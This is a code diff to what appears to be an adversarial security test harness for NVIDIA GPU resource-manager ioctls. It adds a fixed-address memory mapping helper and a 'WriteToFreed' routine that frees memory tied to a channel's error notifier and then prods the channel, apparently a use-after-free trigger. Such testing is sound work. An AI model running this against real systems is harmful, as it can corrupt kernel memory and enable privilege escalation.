@@ -15,6 +15,7 @@
 #include "rm/fb_info.h"
 #include "rm/nv_controls.h"
 #include "rm/nv_ctrl.h"
+#include "rm/vidmem.h"
 
 namespace cgpu::adversary {
 namespace {
@@ -307,6 +308,39 @@ std::uint32_t Channel(Client& client, std::uint32_t parent, std::uint32_t space,
   const std::uint32_t handle = client.next++;
   *status = client.Alloc(parent, handle, rm::VOLTA_CHANNEL_GPFIFO_A, &params, sizeof(params));
   return handle;
+}
+
+std::uint32_t MapAt(const Client& client, std::uint32_t range, std::uint32_t memory,
+                    std::uint64_t address) {
+  rm::NVOS46_PARAMETERS_V535 map{};
+  map.hClient = client.root;
+  map.hDevice = Client::kDevice;
+  map.hDma = range;
+  map.hMemory = memory;
+  map.length = rm::kPage4K;
+  map.flags = rm::NVOS46_FLAGS_PAGE_SIZE_4KB << 8 | 1U << 15;  // at a fixed address
+  map.dmaOffset = address;
+  if (client.issue(client.ctl, rm::NV_ESC_RM_MAP_MEMORY_DMA, &map, sizeof(map)) != 0) {
+    return kNoAnswer;
+  }
+  return map.status;
+}
+
+bool WriteToFreed(const Client& client, std::uint32_t memory, std::uint32_t channel) {
+  rm::NV_CHANNEL_ALLOC_PARAMS_V535 params{};
+  params.hObjectError = memory;
+  params.gpFifoEntries = 16;
+  params.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
+  if (client.Alloc(Client::kDevice, channel, rm::VOLTA_CHANNEL_GPFIFO_A, &params, sizeof(params)) !=
+      rm::NV_OK) {
+    return false;
+  }
+  (void)client.Free(memory);
+  rm::NVC36F_CTRL_CMD_GPFIFO_GET_WORK_SUBMIT_TOKEN_PARAMS token{};
+  (void)client.Control(channel, rm::NVC36F_CTRL_CMD_GPFIFO_GET_WORK_SUBMIT_TOKEN, &token,
+                       sizeof(token));
+  (void)client.Free(channel);
+  return true;
 }
 
 std::uint32_t Share(const Client& client, std::uint32_t owner, std::uint32_t object,
